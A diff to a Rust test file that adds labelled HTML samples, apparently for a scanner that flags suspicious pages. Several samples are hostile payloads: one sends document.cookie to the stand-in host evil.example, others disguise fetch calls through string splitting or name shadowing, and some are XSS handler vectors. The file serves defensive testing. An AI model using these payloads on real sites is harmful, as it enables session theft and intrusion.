@@ -20,6 +20,17 @@ fn pages(samples: &mut Samples) {
     add("a handler", "<img src=x onerror=alert(1)>", Suspicious("script"));
     add("a button that prints", "<button onclick=\"window.print(); return false\">Print</button>", Clean);
     add("a handler that prints first", "<button onclick=\"window.print(); fetch('https://evil.example')\">Print</button>", Suspicious("script"));
+    add("a script that steals", "<script>new Image().src='https://evil.example/?'+document.cookie</script>", Suspicious("script"));
+    add("a script that hides its call", "<script>window['fe'+'tch']('https://evil.example')</script>", Suspicious("script"));
+    add("a script that redeclares what it calls", "<script>var fetch; fetch('https://evil.example')</script>", Suspicious("script"));
+    add("a script that runs a text", "<script>const s='ste'+'al()'; setTimeout(s, 9)</script>", Suspicious("script"));
+    add("data for search engines", "<script type=\"application/ld+json\">{\"@type\":\"Person\",\"url\":\"https://example.org\"}</script>", Clean);
+    let year = "<script>document.getElementById('y').textContent = new Date().getFullYear();</script>";
+    add("a script that writes the year", year, Clean);
+    let menu = "<nav id=menu style=\"display:none\">Projects Publications Talks Teaching Contact Imprint Privacy</nav>";
+    let open = "<button onclick=\"document.getElementById('menu').style.display = 'block'\">Menu</button>";
+    add("a menu that opens", &format!("{open}{menu}"), Clean);
+    add("a menu that nothing opens", menu, Suspicious("hidden-text"));
     add("a handler in capitals", "<BODY ONLOAD=alert(1)>", Suspicious("script"));
     add("a link that is a script", "<a href=\"java&#10;script:alert(1)\">x</a>", Suspicious("script-link"));
     add("a link that is a page", "<a href=\"data:text/html;base64,PGI+\">x</a>", Suspicious("data-link"));
